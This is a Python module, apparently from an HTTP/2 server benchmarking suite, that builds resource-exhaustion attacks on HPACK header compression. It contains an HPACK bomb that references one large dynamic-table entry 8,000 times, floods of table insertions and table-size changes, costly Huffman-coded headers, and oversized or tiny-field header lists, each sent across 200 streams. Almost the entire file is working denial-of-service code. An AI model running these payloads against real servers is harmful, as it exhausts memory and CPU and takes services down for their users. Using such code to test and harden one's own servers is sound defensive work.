"""Header blocks that cost much more to decode or to keep than to send."""

import random
from collections.abc import Callable

from bench.attacks import frames, header_blocks
from bench.attacks.attack import Attack, Target, Volley
from bench.attacks.frames import END_STREAM

TABLE_BYTES = 4_096
"""The dynamic table until the server's settings are acknowledged, which we never do."""
BOMB_REFERENCES = 8_000
HUFFMAN_DIGITS = 6_400
"""4,000 bytes that decode to 6,400."""
INSERTED_FIELDS = 100
BLOCKS = 200
"""Different header blocks that a connection sends; decoding one again could come from a cache."""


def hpack_bomb(target: Target) -> Attack:
    """A large entry in the dynamic table, then blocks that name it thousands of times."""
    # An entry counts 32 bytes more than its strings (RFC 7541, section 4.1).
    entry = header_blocks.inserted(b"x-bomb", b"b" * (TABLE_BYTES - 32 - len(b"x-bomb")))
    plant = frames.headers(1, target.block + entry, frames.END_HEADERS | END_STREAM)
    bomb = target.block + header_blocks.indexed(header_blocks.FIRST_DYNAMIC) * BOMB_REFERENCES

    def call(stream: int) -> bytes:
        return plant if stream == 1 else frames.header_frames(stream, bomb, END_STREAM)

    return _blocks(target, call)


def hpack_inserts(target: Target) -> Attack:
    """Blocks of many small fields that all enter the dynamic table and push others out."""

    def call(stream: int) -> bytes:
        fields = (
            header_blocks.inserted(b"x-%d-%d" % (stream, number), b"%d" % number)
            for number in range(INSERTED_FIELDS)
        )
        block = target.block + b"".join(fields)
        return frames.header_frames(stream, block, END_STREAM)

    return _blocks(target, call)


def hpack_table_sizes(target: Target) -> Attack:
    """Blocks that change the dynamic table's size thousands of times before the first field."""
    changes = (header_blocks.table_size(0) + header_blocks.table_size(TABLE_BYTES)) * 2_000

    def call(stream: int) -> bytes:
        return frames.header_frames(stream, changes + target.block, END_STREAM)

    return _blocks(target, call)


def hpack_huffman(target: Target) -> Attack:
    """Blocks of Huffman-coded text that is always new, in the shortest codes."""
    chance = random.Random(2)

    def text_of(digits: int) -> bytes:
        symbols = chance.choices(range(header_blocks.FIVE_BIT_SYMBOLS), k=digits)
        return header_blocks.huffman_digits(symbols)

    most = text_of(HUFFMAN_DIGITS)

    def call(stream: int) -> bytes:
        text = text_of(16) + most
        block = target.block + header_blocks.literal(b"x-text", text, huffman=True)
        return frames.header_frames(stream, block, END_STREAM)

    return _blocks(target, call)


def header_list_over_limit(target: Target) -> Attack:
    """Calls with 64 KiB of headers, more than servers take."""
    fields = header_blocks.literal(b"x-filler", b"f" * 1_024) * 64

    def call(stream: int) -> bytes:
        return frames.header_frames(stream, target.block + fields, END_STREAM)

    return _blocks(target, call)


def many_small_headers(target: Target) -> Attack:
    """Calls with as many of the smallest fields as fit a frame."""
    field = header_blocks.literal(b"a", b"")
    fields = field * ((frames.LARGEST_FRAME - len(target.block)) // len(field))

    def call(stream: int) -> bytes:
        return frames.header_frames(stream, target.block + fields, END_STREAM)

    return _blocks(target, call)


def _blocks(target: Target, call: Callable[[int], bytes]) -> Attack:
    """Send calls without a message, and begin again on a new connection."""
    return Attack(volley=Volley.of(target.for_each_stream(call, streams=BLOCKS)), repeats=1)


ATTACKS = (
    hpack_bomb,
    hpack_inserts,
    hpack_table_sizes,
    hpack_huffman,
    header_list_over_limit,
    many_small_headers,
)
